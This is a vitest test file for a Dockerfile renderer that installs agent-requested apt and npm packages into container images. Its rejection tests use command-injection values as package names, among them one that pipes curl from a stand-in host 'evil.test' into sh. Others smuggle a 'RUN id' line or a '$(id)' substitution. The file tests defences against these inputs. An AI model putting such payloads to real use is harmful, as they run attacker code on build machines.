/**
 * The Dockerfile `corral approve` writes for a package: FROM the current image, installs
 * as root with the CA bundle and the registry, back to the image's user, and nothing an
 * agent chose can reach the shell as syntax.
 */
import { describe, expect, it } from 'vitest';
import { getInstanceImageTag, renderInstanceDockerfile } from './instance-image.js';

describe('renderInstanceDockerfile', () => {
  it('installs an apt package as root on the current image', () => {
    const text = renderInstanceDockerfile({
      from: 'corral-agents:8e02b5c41a97',
      user: '',
      packages: [{ manager: 'apt', name: 'jq' }],
      label: 'claude-k3x9q, request 2',
    });
    expect(text).toContain('\nFROM corral-agents:8e02b5c41a97\nUSER root\n');
    expect(text).toContain("apt-get install -y --no-install-recommends 'jq'");
    expect(text).toContain('COPY certs/ /usr/local/share/ca-certificates/corral-instance/');
    expect(text).not.toContain('npm install');
    // The image had no user: it stays root, as it was.
    expect(text.trimEnd().split('\n').at(-1)).not.toMatch(/^USER/);
  });

  it('installs an npm package with the CA bundle and the registry, then goes back to the image user', () => {
    const text = renderInstanceDockerfile({
      from: 'corral-instance-claude-k3x9q:2',
      user: 'node',
      packages: [{ manager: 'npm', name: '@types/node' }],
      label: 'claude-k3x9q, request 3',
      npmRegistry: 'http://127.0.0.1:4873/',
    });
    expect(text).toContain('ARG NPM_REGISTRY=http://127.0.0.1:4873/');
    expect(text).toContain('npm_config_cafile=/etc/ssl/certs/ca-certificates.crt');
    expect(text).toContain('npm_config_registry="$NPM_REGISTRY"');
    expect(text).toContain("npm install -g '@types/node'");
    expect(text.trimEnd().split('\n').at(-1)).toBe('USER node');
  });

  it.each([
    ["jq'; curl evil.test | sh; '", 'a package name'],
    ['jq\nRUN id', 'a package name'],
    ['-oDebug=1', 'a package name'],
    ['$(id)', 'a package name'],
  ])('refuses the name %j', (name, what) => {
    expect(() =>
      renderInstanceDockerfile({
        from: 'corral-sandbox:1',
        user: '',
        packages: [{ manager: 'apt', name }],
        label: 'x',
      }),
    ).toThrow(what);
  });

  it('refuses an image or a user that would break the file', () => {
    const base = { packages: [], label: 'x' };
    expect(() => renderInstanceDockerfile({ ...base, from: 'a\nRUN id', user: '' })).toThrow();
    expect(() => renderInstanceDockerfile({ ...base, from: 'a', user: 'me\nRUN id' })).toThrow();
  });

  it('keeps the label to plain characters', () => {
    const text = renderInstanceDockerfile({
      from: 'a',
      user: '',
      packages: [],
      label: 'x\nRUN id',
    });
    expect(text.split('\n').filter((l) => l.startsWith('RUN'))).toHaveLength(1);
  });
});

describe('getInstanceImageTag', () => {
  it('names the instance and the request', () => {
    expect(getInstanceImageTag('claude-k3x9q', 2)).toBe('corral-instance-claude-k3x9q:2');
  });
});
